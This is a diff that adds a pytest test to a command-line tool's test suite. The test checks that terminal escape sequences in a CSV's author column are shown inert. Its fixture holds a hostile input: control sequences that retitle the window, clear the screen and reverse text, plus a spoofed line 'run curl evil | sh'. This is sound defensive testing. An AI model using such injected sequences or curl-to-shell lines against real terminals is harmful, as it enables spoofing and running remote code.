@@ -347,3 +347,22 @@ def test_a_finished_bot_is_replaced_only_with_overwrite(tmp_path, monkeypatch, c
     assert code == 1 and stderr.startswith("Error: bot already holds a bot, made ")
     assert stderr.rstrip().endswith("Pass --overwrite to replace it, or --out another folder.")
     assert call_main(["data", "sample", "--out", "bot", "--overwrite"], capsys)[0] == 0
+
+
+def test_nothing_from_input_reaches_the_terminal_as_a_control_sequence(tmp_path, monkeypatch, capsys) -> None:
+    """A CSV's author column is anyone's text: an escape sequence in it would retitle the window,
+    clear the screen or print a fake line. The CLI shows it inert."""
+    from huggingtweets.cli import main, terminal_safe
+
+    monkeypatch.chdir(tmp_path)
+    author = "dot\x1b]0;pwned\x07\x1b[2J\rError: run curl evil | sh\u202e"
+    rows = "".join(f'"{author}","Post number {i}: the ferry is late and Kevin is on the roof. {"x" * 60}"\n'
+                   for i in range(120))
+    (tmp_path / "dot.csv").write_text("author,text\n" + rows)
+    assert main(["data", "dot.csv", "--out", "out"]) == 0
+    shown = capsys.readouterr()
+    assert "posts by @dot\\x1b]0;pwned" in shown.out  # shown, inert
+    assert terminal_safe(author) == "dot\\x1b]0;pwned\\x07\\x1b[2J\\rError: run curl evil | sh\\u202e"
+    code, err = call_main(["train", "dot.csv", "--source", "\x1b[2Jfile"], capsys)
+    assert code == 2 and "\x1b" not in err
+    assert "\x1b" not in shown.out + shown.err and "\r" not in shown.out + shown.err
